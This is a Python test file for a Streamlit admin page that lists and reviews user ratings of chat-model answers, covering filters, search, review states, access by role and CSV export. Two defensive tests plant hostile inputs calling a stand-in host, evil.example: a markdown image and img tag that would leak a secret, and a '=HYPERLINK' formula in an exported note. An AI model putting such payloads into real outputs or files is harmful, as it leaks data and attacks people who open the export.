from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
from streamlit.testing.v1 import AppTest

from core.people.records import Role
from core.review.records import Feedback, FeedbackFilter, ReviewState
from pages.feedback import PAGE, feedback_csv
from tests.pages.seeded import Stage, as_role, page, stage, texts


@pytest.fixture
def seeded(tmp_path) -> Iterator[Stage]:
    made = stage(tmp_path)
    yield made
    made.portal.close()


def rows(drawn: AppTest) -> list[str]:
    return [button.key.removeprefix("rrow-") for button in drawn.button if button.key.startswith("rrow-")]


def cases(made: Stage, **filter: object) -> list[Feedback]:
    return made.portal.feedback.find(made.admin, FeedbackFilter(**filter), limit=PAGE)[0]  # type: ignore[arg-type]


def heading(drawn: AppTest) -> str:
    return next(each.value for each in drawn.markdown if each.value.startswith("## "))


def test_no_ratings_says_where_they_come_from(tmp_path) -> None:
    made = stage(tmp_path, empty=True)
    drawn = page("feedback", made)
    assert "No ratings yet" in texts(drawn) and not rows(drawn)
    made.portal.close()


def test_only_admins_see_feedback(seeded: Stage) -> None:
    for role in (Role.ANALYST, Role.MANAGER):
        refused = page("feedback", seeded, as_role(seeded.admin, role))
        assert not rows(refused) and "does not include this" in texts(refused)


def test_the_list_is_newest_first_and_the_first_case_is_open(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    assert not drawn.exception
    expected = cases(seeded)
    assert rows(drawn) == [case.id for case in expected]
    assert f"**{expected[0].user_name}**" in texts(drawn).replace("\\", "")


def test_state_rating_and_model_narrow_the_list(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    drawn.segmented_control(key="feedback-state").set_value(ReviewState.NEW).run()
    assert rows(drawn) == [case.id for case in cases(seeded, state=ReviewState.NEW)]
    drawn.segmented_control(key="feedback-rating").set_value(-1).run()
    assert rows(drawn) == [case.id for case in cases(seeded, state=ReviewState.NEW, rating=-1)]
    drawn.button(key="feedback-clear").click().run()
    drawn.selectbox(key="feedback-model").set_value("GLM-4.5-Air-Q4_K_M").run()
    assert rows(drawn) == [case.id for case in cases(seeded, state=ReviewState.NEW, model="GLM-4.5-Air-Q4_K_M")]


def test_both_chosen_days_belong_to_the_range(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    day = cases(seeded)[-1].created_at.date()
    drawn.date_input(key="feedback-dates").set_value((day, day)).run()
    start = datetime(day.year, day.month, day.day, tzinfo=UTC)
    expected = [case.id for case in cases(seeded, since=start, until=start + timedelta(days=1))]
    assert expected and rows(drawn) == expected


def test_search_finds_words_of_the_question_and_tells_when_nothing_matches(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    case = next(case for case in cases(seeded) if case.question and "SQL" in case.question)
    drawn.text_input(key="feedback-search").set_value("logins office").run()
    assert case.id in rows(drawn) and len(rows(drawn)) < len(cases(seeded))
    drawn.text_input(key="feedback-search").set_value("zzyzx").run()
    assert not rows(drawn) and "No case matches" in texts(drawn)


def test_next_and_previous_walk_the_list(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    order = rows(drawn)
    assert drawn.button(key="rvprev").disabled
    drawn.button(key="rvnext").click().run()
    assert drawn.session_state["feedback-case"] == order[1]
    drawn.button(key="rvprev").click().run()
    assert drawn.session_state["feedback-case"] == order[0]


def test_resolving_in_the_new_tab_opens_the_next_new_case(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    drawn.segmented_control(key="feedback-state").set_value(ReviewState.NEW).run()
    first, second = rows(drawn)[:2]
    drawn.button(key=f"rrow-{first}").click().run()
    drawn.button(key="rvresolve").click().run()
    assert seeded.portal.feedback.get(seeded.admin, first).state is ReviewState.RESOLVED
    assert first not in rows(drawn) and drawn.session_state["feedback-case"] == second


def test_a_started_review_names_its_reviewer(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    case = next(case for case in cases(seeded) if case.state is ReviewState.NEW)
    drawn.button(key=f"rrow-{case.id}").click().run()
    drawn.button(key="rvstart").click().run()
    stored = seeded.portal.feedback.get(seeded.admin, case.id)
    assert (stored.state, stored.reviewer_name) == (ReviewState.IN_REVIEW, "mei")
    assert drawn.button(key="rvstart").disabled


def test_a_deleted_chat_keeps_its_rating_and_says_that_its_text_is_gone(seeded: Stage) -> None:
    case = next(case for case in cases(seeded) if case.question)
    owner = next(user for user in seeded.portal.accounts.people(seeded.admin) if user.id == case.user_id)
    seeded.portal.conversations.delete(owner, case.conversation_id)
    drawn = page("feedback", seeded)
    drawn.button(key=f"rrow-{case.id}").click().run()
    assert heading(drawn) == "## Deleted chat" and "deleted this chat" in texts(drawn)


def test_model_text_cannot_load_pictures_or_become_html(seeded: Stage) -> None:
    case = next(case for case in cases(seeded) if case.answer)
    from data.unit_of_work import SqlUnitOfWork

    with SqlUnitOfWork(seeded.portal.database) as work:
        message = work.messages.get(case.message_id)
        assert message is not None
        hostile = "![x](http://evil.example/?q=secret) <img src=http://evil.example/2>"
        work.messages.finish(message.id, message.status, hostile, "", None)
        work.commit()
    drawn = page("feedback", seeded)
    drawn.button(key=f"rrow-{case.id}").click().run()
    shown = texts(drawn)
    assert "[x](<http://evil.example/?q=secret>" in shown, "a link"
    assert "![x" not in shown and "<img src=" not in shown


def test_the_page_speaks_chinese(seeded: Stage) -> None:
    drawn = page("feedback", seeded, language="zh")
    assert drawn.button(key="rvnext") is not None and any(button.label in ("解决", "重新打开") for button in drawn.button)


def test_the_export_holds_every_match_and_runs_no_formula(seeded: Stage) -> None:
    case = cases(seeded)[0]
    seeded.portal.feedback.review(seeded.admin, case.id, note='=HYPERLINK("http://evil.example","x")')
    exported = feedback_csv(seeded.portal.feedback.all(seeded.admin, FeedbackFilter())).decode("utf-8-sig")
    lines = list(csv.DictReader(io.StringIO(exported)))
    assert len(lines) == sum(seeded.portal.feedback.counts(seeded.admin).values())
    assert next(line["note"] for line in lines if line["id"] == case.id).startswith("'=HYPERLINK")
